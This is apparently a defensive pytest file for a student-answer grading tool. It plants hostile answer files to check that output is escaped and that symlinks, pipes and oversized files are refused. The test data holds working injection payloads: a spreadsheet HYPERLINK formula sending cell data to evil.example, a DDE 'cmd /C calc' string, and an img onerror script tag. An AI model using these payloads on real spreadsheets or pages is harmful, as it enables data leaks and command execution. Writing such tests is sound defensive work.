"""`grade` and `check` on a hostile class folder: what they read (never through a link, a pipe, or
past the size cap), what they write (only into the real --out, user text never a formula or
markup), and one bad file never stopping the class."""
import csv
import io
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from symblock.cli import main

SECRET = "SECRET-7f3a-not-for-students"
RAW_TAG = re.compile(r"(?<!\\)<img")   # a tag Markdown would pass through as HTML
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def set_dir(tmp_path_factory):
    """A two-variant set; its blank answers templates are files that grade cleanly (0 points)."""
    root = tmp_path_factory.mktemp("hostile")
    out = root / "set"
    assert main(["worksheet", "pre-ln-causal-gelu", "--preset", "norm", "--variants", "2", "--allow-repeats",
                 "--format", "markdown", "--out", str(out)]) == 0
    return out


@pytest.fixture
def answers(set_dir, tmp_path):
    """An answers folder holding one good file, good.yaml; and a secret file outside it."""
    folder = tmp_path / "ans"
    folder.mkdir()
    shutil.copy(set_dir / "students" / "pre-ln-causal-gelu.1" / "answers.yaml", folder / "good.yaml")
    (tmp_path / "secret.txt").write_text(SECRET + "\n" + "x" * 200 + "\n", encoding="utf-8")
    return folder


def template(set_dir, name: str, ident: str = "pre-ln-causal-gelu.1") -> str:
    text = (set_dir / "students" / "pre-ln-causal-gelu.1" / "answers.yaml").read_text(encoding="utf-8")
    return text.replace('name: ""', f"name: {name}").replace("id: pre-ln-causal-gelu.1", f"id: {ident}")


def outputs(folder: Path) -> str:
    return "".join(p.read_text(encoding="utf-8") for p in sorted(folder.rglob("*")) if p.suffix in (".csv", ".md", ".html"))


def rows(folder: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO((folder / "gradebook.csv").read_text(encoding="utf-8"))))


def test_names_never_become_formulas_rows_or_markup(set_dir, answers, capsys):
    evil = '"=HYPERLINK(\\"http://evil.example/?x=\\"&A2,\\"c\\")\\n# Heading\\n<img src=x onerror=alert(1)>"'
    (answers / "evil.yaml").write_text(template(set_dir, evil), encoding="utf-8")
    (answers / "+cmd.yaml").write_text(template(set_dir, '"@SUM(1+1)\\n\\x1b[2J# x"', ident='"-2+3"'), encoding="utf-8")
    (answers / "c.csv").write_text("step,row,col,value\nid,,,pre-ln-causal-gelu.2\nname,,,\"+cmd|' /C calc'!A0\"\n",
                                   encoding="utf-8")
    assert main(["grade", str(set_dir), str(answers)]) == 1
    book = rows(answers / "graded")
    assert len(book) == 4   # one row per file, whatever the names hold
    for row in book:
        for key, cell in row.items():
            assert not cell.startswith(FORMULA), (key, cell)
            assert "\n" not in cell and "\r" not in cell
    by_file = {r["file"]: r for r in book}
    assert by_file["evil.yaml"]["Student"].startswith("'=HYPERLINK(")
    assert by_file["'+cmd.yaml"]["Student"] == "'@SUM(1+1) \x1b[2J# x" and by_file["'+cmd.yaml"]["worksheet"] == "'-2+3"
    assert by_file["c.csv"]["Student"].startswith("'+cmd|")
    feedback = next(p for p in (answers / "graded" / "feedback").iterdir() if "HYPERLINK" in p.read_text(encoding="utf-8"))
    md = feedback.read_text(encoding="utf-8")
    title = [line for line in md.splitlines() if "HYPERLINK" in line]
    assert len(title) == 1 and title[0].startswith("# Feedback for ") and "\\# Heading" in title[0]
    assert not RAW_TAG.search(md) and "\\<img" in title[0]
    summary = (answers / "graded" / "summary.md").read_text(encoding="utf-8")
    assert not RAW_TAG.search(summary) and "\n# Heading" not in summary
    said = capsys.readouterr().out
    assert "\x1b" not in said and "@SUM(1+1)  [2J# x): id -2+3" in said


def test_an_unreadable_entry_is_quoted_as_written_and_never_markup(set_dir, answers, capsys):
    """An entry that is no number is quoted back as written (`2*_2` stays `2*_2`, not `2??2`, which is what the
    student typed); in the Markdown feedback the same text is escaped, so a tag in it is never HTML."""
    text = template(set_dir, "Eve").replace("norm1.mean: [[null], [null], [null]]",
                                            "norm1.mean: [['<img src=x>'], ['2*_2'], [null]]")
    (answers / "eve.yaml").write_text(text, encoding="utf-8")
    assert main(["grade", str(set_dir), str(answers)]) == 1
    md = next(p for p in (answers / "graded" / "feedback").iterdir() if "Eve" in p.read_text(encoding="utf-8"))
    md = md.read_text(encoding="utf-8")
    assert not RAW_TAG.search(md) and "not a number: '\\<img src=x\\>'" in md and "given 2\\*\\_2 " in md
    capsys.readouterr()
    assert main(["check", str(answers / "eve.yaml"), "--json"]) == 1
    import json
    entries = next(s for s in json.loads(capsys.readouterr().out)["steps"] if s["name"] == "norm1.mean")["entries"]
    assert [e["given"] for e in entries[:2]] == ["<img src=x>", "2*_2"]


def test_links_and_pipes_among_answers_are_refused_unread(set_dir, answers, tmp_path, capsys):
    (answers / "pw.yaml").symlink_to(tmp_path / "secret.txt")
    (answers / "dir.json").symlink_to(tmp_path)
    os.mkfifo(answers / "pipe.csv")
    assert main(["grade", str(set_dir), str(answers)]) == 1
    out = capsys.readouterr()
    assert SECRET not in outputs(answers / "graded") + out.out + out.err
    status = {r["file"]: r["status"] for r in rows(answers / "graded")}
    assert status["good.yaml"] == "graded"
    assert "symbolic link" in status["pw.yaml"] and "symbolic link" in status["dir.json"]
    assert "pipe" in status["pipe.csv"]


def test_a_linked_manifest_and_check_of_a_link_quote_nothing(set_dir, answers, tmp_path, capsys):
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / "manifest.yaml").symlink_to(tmp_path / "secret.txt")
    assert main(["grade", str(linked), str(answers)]) == 2
    assert main(["check", "pre-ln-causal-gelu", str(linked / "manifest.yaml")]) == 2
    err = capsys.readouterr().err
    assert SECRET not in err and "symbolic link" in err


def test_check_and_forward_refuse_a_fifo_without_hanging(tmp_path):
    fifo = tmp_path / "answers.yaml"
    os.mkfifo(fifo)
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[2]))
    for args in (["check", "pre-ln-causal-gelu", str(fifo)], ["forward", str(fifo)]):
        run = subprocess.run([sys.executable, "-m", "symblock", *args], capture_output=True, text=True,
                             timeout=60, env=env)
        assert run.returncode == 2 and "pipe" in run.stderr and "Traceback" not in run.stderr


def test_messages_quote_only_a_short_excerpt(set_dir, answers, capsys):
    (answers / "long.yaml").write_text("y" * 5000 + "\n", encoding="utf-8")
    assert main(["grade", str(set_dir), str(answers)]) == 1
    status = {r["file"]: r["status"] for r in rows(answers / "graded")}["long.yaml"]
    assert "y" * 40 in status and "y" * 41 not in status and len(status) < 300


def test_a_planted_graded_link_is_never_written_through(set_dir, answers, tmp_path, capsys):
    outside = tmp_path / "outside"
    outside.mkdir()
    (answers / "graded").symlink_to(outside)
    assert main(["grade", str(set_dir), str(answers)]) == 2
    assert main(["grade", str(set_dir), str(answers), "--force"]) == 2
    real = tmp_path / "real"
    real.mkdir()
    (real / "feedback").symlink_to(outside)
    assert main(["grade", str(set_dir), str(answers), "--out", str(real), "--force"]) == 2
    assert list(outside.iterdir()) == [] and list(real.iterdir()) == [real / "feedback"]
    assert "symbolic link" in capsys.readouterr().err


def test_out_the_answers_folder_itself_is_refused(set_dir, answers, capsys):
    """Its gradebook.csv would be read as a student's file at the next grading."""
    before = sorted(p.name for p in answers.iterdir())
    for extra in ([], ["--force"]):
        assert main(["grade", str(set_dir), str(answers), "--out", str(answers / "."), *extra]) == 2
        err = capsys.readouterr().err
        assert "--out:" in err and "is the answers folder itself" in err and "Traceback" not in err
    assert sorted(p.name for p in answers.iterdir()) == before   # nothing written


@pytest.mark.parametrize("where", ["/proc", "/sys"])
def test_out_in_a_pseudo_file_system_is_a_clear_error(set_dir, answers, where, capsys):
    assert main(["grade", str(set_dir), str(answers), "--out", f"{where}/graded"]) == 2
    assert "cannot write there" in capsys.readouterr().err


def test_one_file_never_stops_the_class(set_dir, answers, monkeypatch, capsys):
    from symblock.engine.files import MAX_BYTES
    from symblock.grading import answers as answers_mod
    with open(answers / "big.csv", "w", encoding="utf-8") as f:   # 17 MiB: over the cap
        f.write("step,row,col,value\n" + ("norm1.mean,0,0,1\n" * (17 * 2**20 // 17)))
    assert (answers / "big.csv").stat().st_size > MAX_BYTES
    (answers / "boom.yaml").write_text(template(set_dir, "Boom"), encoding="utf-8")
    (answers / "huge.csv").write_text("step,row,col,value\nid,,,pre-ln-causal-gelu.1\nnorm1.mean,0,0,"
                                      + "9" * 140_000 + "\n", encoding="utf-8")
    bad_name = os.path.join(os.fsencode(answers), b"\xff\xfe.yaml")
    with open(bad_name, "wb") as f:
        f.write(template(set_dir, "Bytes").encode("utf-8"))
    real = answers_mod.read

    def read(path, text=None):
        if Path(path).name == "boom.yaml":
            raise RuntimeError("a planted bug")
        return real(path, text)
    monkeypatch.setattr(answers_mod, "read", read)
    assert main(["grade", str(set_dir), str(answers)]) == 1
    status = {r["file"]: r["status"] for r in rows(answers / "graded")}
    assert status["good.yaml"] == "graded"
    assert "larger than 16 MiB" in status["big.csv"]
    assert status["boom.yaml"].startswith("not graded: internal error") and "a planted bug" in status["boom.yaml"]
    assert status["huge.csv"].startswith("not graded: ") and "internal" not in status["huge.csv"]
    bad = next(k for k in status if k.endswith(".yaml") and "\\udcff" in k)
    assert "not UTF-8" in status[bad]
